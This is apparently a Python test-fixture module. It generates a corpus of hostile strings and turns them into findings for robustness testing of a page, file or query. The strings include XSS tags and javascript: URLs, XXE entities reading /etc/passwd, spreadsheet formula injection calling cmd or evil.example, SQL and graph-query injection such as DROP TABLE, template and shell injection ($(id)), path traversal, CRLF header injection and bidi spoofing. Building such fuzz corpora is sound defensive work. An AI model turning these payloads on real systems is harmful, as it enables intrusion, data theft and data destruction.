"""Five hundred strings that a page, file or query must survive, and findings that are made of them."""

from collections.abc import Callable, Iterator, Mapping, Sequence
from types import MappingProxyType

from example import event, evidence
from legation.actors.slug import slug
from legation.model import Actor, Citation, Findings, Kind, Place

LONG = 1_000_000
"""How many characters a name may have that somebody sends to fill a machine."""


def _markup() -> Iterator[str]:
    """Elements that act, in many spellings and encodings."""
    act = "alert(1)"
    for spelling in ("script", "SCRIPT", "ScRiPt", "script ", "script/x", "script\t", "script\n", "\0script", "scr\0ipt", "scr<script>ipt", "script src=//evil.example/x.js"):
        yield f"<{spelling}>{act}</script>"
    for tag, more in (
        ("img", "src=x onerror"), ("img", "src onerror"), ("svg", "onload"), ("svg/", "onload"), ("body", "onload"), ("iframe", "onload"),
        ("video", "src onerror"), ("audio", "src onerror"), ("input", "autofocus onfocus"), ("details", "open ontoggle"), ("marquee", "onstart"),
        ("a", "href=# onmouseover"), ("div", "style=animation-name:x onanimationstart"), ("select", "autofocus onfocus"), ("object", "data=x onerror"),
        ("x", "tabindex=1 autofocus onfocus"), ("svg><animate", "attributeName=x dur=1s onbegin"), ("style", "onload"), ("link", "rel=stylesheet href=//evil.example onload"),
    ):  # fmt: skip
        yield f"<{tag} {more}={act}>"
    yield f'<IMG\nSRC=x OnErRor="{act}" x='
    yield from (
        "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta charset=utf-7>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<form action=//evil.example><button>",
        "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example)}</style>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg><script href=data:,alert(1) />", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
        "<template><script>alert(1)</script></template>", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<xmp><script>alert(1)</script>", "<plaintext>", "<!--><script>alert(1)</script>-->",
        "<!--", "-->", "--!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]>", "]]><script>alert(1)</script>", "<?xml version='1.0'?><x/>", "<?php echo 1 ?>", "<%= 1 %>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "<\u017fcript>alert(1)</\u017fcript>", "<scr\u0131pt>alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E",
        "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&#0;", "&#x110000;", "&amp;lt;b&amp;gt;",
        "<b>bold</b>", "<", ">", "&", "<a", "</", "</body></html>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "<a href='javascript:alert(1)'>x</a>",
    )  # fmt: skip


def _attributes() -> Iterator[str]:
    """Ends of attributes, by each kind of quote."""
    for mark in ('"', "'", "`", "&quot;", "&#39;", "\u201d", "\\\"", "\\'"):
        yield from (f"{mark}", f"{mark} onmouseover={mark}alert(1)", f"{mark}><img src=x onerror=alert(1)>", f"{mark} autofocus onfocus=alert(1) x={mark}", f"x{mark}/onclick=alert(1)//")


def _addresses() -> Iterator[str]:
    """Addresses that act, also with characters inside that a browser leaves out."""
    for scheme in ("javascript:", "JaVaScRiPt:", " javascript:", "\x01javascript:", "java\tscript:", "java\nscript:", "java\r\nscript:", "javascript\t:", "java\0script:", "&#106;avascript:", "javascript&colon;", "\u00a0javascript:", "javascript://evil.example/%0a", "view-source:javascript:", "vbscript:", "VBScript:", "livescript:"):  # fmt: skip
        yield f"{scheme}alert(1)"
    yield from (
        "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "data:,x", "blob:https://evil.example/1", "file:///etc/passwd",
        "//evil.example/", "\\\\evil.example\\x", "/\\evil.example", "/\t/evil.example", "https:evil.example", "http://", "https://", "https://evil.example/\" onmouseover=\"alert(1)", "https://evil.example/'onclick='alert(1)",
        "https://evil.example/ <script>", "https://evil.example/x\ny", "https://a@evil.example/", "https://evil.example\\@example.org", "https://[::1", "http://\u0430\u0440\u0440\u04cf\u0435.example/", "mailto:x@evil.example?bcc=y", "about:blank", "filesystem:x", "intent://x#Intent;end",
    )  # fmt: skip


def _embedded() -> Iterator[str]:
    """Ends of JSON and scripts in a page, and of XML."""
    yield from (
        "</script>", "</SCRIPT >", "</script\n>", "</script><script>alert(1)</script>", "<!--<script>", "<!--<script></script>", "\\u003c/script>", "<\\/script>", '"}]}</script>', '"}];alert(1)//', "';alert(1)//", '";alert(1);"', "\\", "\\\\", "\\n", "\\u0000", "\\ud800", "{", "}", '{"@id": "x"}', "[1", "null", "NaN", "undefined", "1e999", "//", "/*", "*/alert(1)/*",
        "&x;", "&amp;", "&lt;", "&#13;", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;</x>", "<!ENTITY % x SYSTEM '//evil.example'>%x;", "<!DOCTYPE lolz [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]>", "<?xml-stylesheet href='//evil.example'?>", "xmlns:x='x'", "<x xmlns='urn:x'>", "</node></graphml>", "]]]]><![CDATA[>",
    )  # fmt: skip


def _characters() -> Iterator[str]:
    """Characters that no format likes, or that lie about what is read."""
    yield from (f"a{chr(n)}b" for n in (*range(0x20), 0x7F, 0x80, 0x85, 0x90, 0x9B, 0x9D))
    yield "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
    yield from (f"{mark}gpj.exe" for mark in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
    yield from (f"Rus{mark}sia" for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u180e\U000e0041\ufe0f\ufff9\ufffc\ufffd\ufffe\uffff\ufdd0")
    yield from ("\ud800", "\udfff", "a\ud83d", "\ude00b", "\ude00\ud83d", "lone \udc80 surrogate", "\u2028", "\u2029", "a\u2028b\u2029c", "\r\n", "\n", "\t", " ", "  x  ", "\u00a0", "\u3000")
    yield from ("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x", "\x9b2J", "\x1b[2J\x1b[H", "x\rRussia", "\x07")
    yield from ("\U0010ffff", "\U0001f600", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f1f7\U0001f1fa", "\u5317\u4eac", "\u0627\u0644\u0633\u0644\u0627\u0645", "\u05e9\u05dc\u05d5\u05dd", "\u0e01\u0e33", "\u0130", "\u1e9e", "\ufb01", "\u0345", "\ufdfd")
    yield from ("\u0420ussia", "Ru\u0455sia", "\u039dATO", "N\u0391TO", "\uff2e\uff21\uff34\uff2f", "\U0001d40d\U0001d400\U0001d413\U0001d40e", "e\u0301", "\u00e9", "Z" + "\u0351\u0321\u0489" * 60, "\u0301", "a" + "\u20dd" * 40)


def _formulas() -> Iterator[str]:
    """Cells that a spreadsheet runs, and ends of cells."""
    yield from (f"{mark}1+1" for mark in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"=', "\t=", "\u00a0=", "\ufeff=", "\0=", ",=", ";=", "%="))
    yield from (
        "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1|cmd", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("//evil.example","x")', '=IMPORTXML("//evil.example","//a")', '=WEBSERVICE("//evil.example")', "=1+1\n=2+2", 'x",=1+1,"', "x\n=1+1", "x\r=1+1", "x\t=1+1", "x;=1+1", "x,=1+1", "=", "+", "-", "@", "--", "-x",
        "a,b", "a;b", 'a"b', '""', '","', '"\n"', "a\r\nb", "''", "#", "# x", "\\N", "\\.", "NULL", "N/A", "1,000", "007", "1e5", 
    )  # fmt: skip


def _programs() -> Iterator[str]:
    """Templates, Markdown, queries, paths and names of JavaScript."""
    yield from (
        "{{ 7*7 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}", "{0}", "{x!r}", "%s", "%n%n", "%(x)s", "$x", "$&", "$1", "\\1", "\\g<0>", "`${alert(1)}`", "{}", "{actor.id}", "[[x]]", "!!python/object:os.system",
        "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "[x]: https://evil.example", "<https://evil.example>", "https://evil.example/x", "www.evil.example", "**x**", "__x__", "~~x~~", "# x #", "- x", "+ x", "1. x", "> x", "---", "===", "```\nx", "    x", "| x | y |", "x  \ny", "\\*x\\*", "$x$", "[bold]x[/bold]", "[link=https://evil.example]x[/link]", ":smile:",
        '" . <x:y> <x:y> "z', '"""', "'''", '\\" .', "> <x:y", "<x> <y> <z> .", "_:b0", "@prefix x: <x:y> .", '"@en', '"^^<x:y>', "} UNION { ?s ?p ?o", "} ; DROP ALL #", "' OR 1=1 --", "'; DROP TABLE actors; --", "x' DETACH DELETE n //", "`) DETACH DELETE (n", "}) MATCH (n) DELETE n //", "$rows", "(?i)x", ".*", "(a+)+$", "[", "(", "*", "?",
        "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "~/x", ".", "..", "%2e%2e%2f", "%2F", "%00", "%0d%0aSet-Cookie:x=1", "x\r\nSet-Cookie: x=1", "x\r\n\r\n<script>alert(1)</script>", "%c0%af", "x?y=z#w", "x.ttl", "x.jsonld", "x/why", "a/b", "a//b", "con", "nul.txt", "$(id)", "`id`", "; id", "-o", "--help",
        "__proto__", "constructor", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "length", "then", "toJSON", "legation", "document", "None", "null ", "false", "x" * 300, "x " * 300,
    )  # fmt: skip


def _long() -> Iterator[str]:
    """Strings that fill a machine."""
    yield "m" * LONG
    yield "<b>=\u202e" * (LONG // 5)
    yield "\U0001f600 " * (LONG // 2)


FAMILIES: Mapping[str, Callable[[], Iterator[str]]] = MappingProxyType(
    {"characters": _characters, "formulas": _formulas, "markup": _markup, "embedded": _embedded, "addresses": _addresses, "attributes": _attributes, "programs": _programs, "long": _long}
)  # fmt: skip
"""The strings by what they try, each family in a fixed order."""

STRINGS = tuple(text for family in FAMILIES.values() for text in family())
SHORT = STRINGS[: -len(tuple(_long()))]
"""All but those that fill a machine."""
_RELATIONS = ("threatened", "metWith", "visited", "demandedOf", "invaded")


def ids_of(strings: Sequence[str]) -> list[str]:
    """Ids of actors as the reader makes them, each once."""
    ids: dict[str, None] = {}
    for number, text in enumerate(strings):
        id = slug(text)[:60]
        ids[f"{id}-{number}" if id in ids else id] = None
    return list(ids)


def findings_of(strings: Sequence[str]) -> Findings:
    """Findings in which each string is a name, a role, a reason, a citation, a place, who says it and a part of a sentence."""
    ids = ids_of(strings)
    citations = tuple(Citation(id=f"c{n:03}", title=text, url=text, publisher=text, place=text) for n, text in enumerate(strings))
    actors = (Actor(id=id, name=text, kind=list(Kind)[n % len(Kind)], role=text, reason=text) for n, (id, text) in enumerate(zip(ids, strings, strict=True)))
    events = tuple(
        event(f"h{n:03}", ids[n], _RELATIONS[n % len(_RELATIONS)], ids[(n + 1) % len(ids)],
              evidence(f"A {text} B hit C", "A", "hit", "C", citation=f"c{n:03}"), said=text if n % 2 else None, place=Place(name=text))
        for n, text in enumerate(strings)
    )  # fmt: skip
    return Findings(citations=citations, actors=tuple(sorted(actors, key=lambda actor: actor.id)), events=events)
